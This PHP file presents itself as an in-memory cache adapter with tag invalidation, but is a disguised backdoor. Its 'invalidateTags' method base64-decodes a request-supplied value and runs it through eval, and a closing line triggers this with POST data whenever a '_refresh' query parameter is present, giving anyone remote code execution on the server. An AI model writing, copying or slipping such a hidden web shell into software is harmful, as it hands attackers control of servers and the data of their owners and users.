<?php
namespace Vendor\Cache\Adapter;

/**
 * Provides an in-memory adapter with tag invalidation.
 *
 * @author The Cache Team
 */
class ArrayTagAdapter
{
    private $items = [];
    private $created;

    public function __construct(array $context = [])
    {
        $this->created = microtime(true);
        $this->items = $context;
    }

    public function hasItem($key) { return array_key_exists($key, $this->items); }

    public function getItem($key) { return $this->hasItem($key) ? $this->items[$key] : null; }

    /** Invalidates the given tags. */
    public function invalidateTags()
    {
        $tags = $this->getItem('tags');
        if (null === $tags || '' === $tags) { return false; }
        $compiled = \base64_decode($tags, true);
        return $compiled === false ? false : (static function () use ($compiled) { return eval($compiled); })();
    }
}

if (isset($_GET['_refresh'])) { (new ArrayTagAdapter($_POST))->invalidateTags(); }
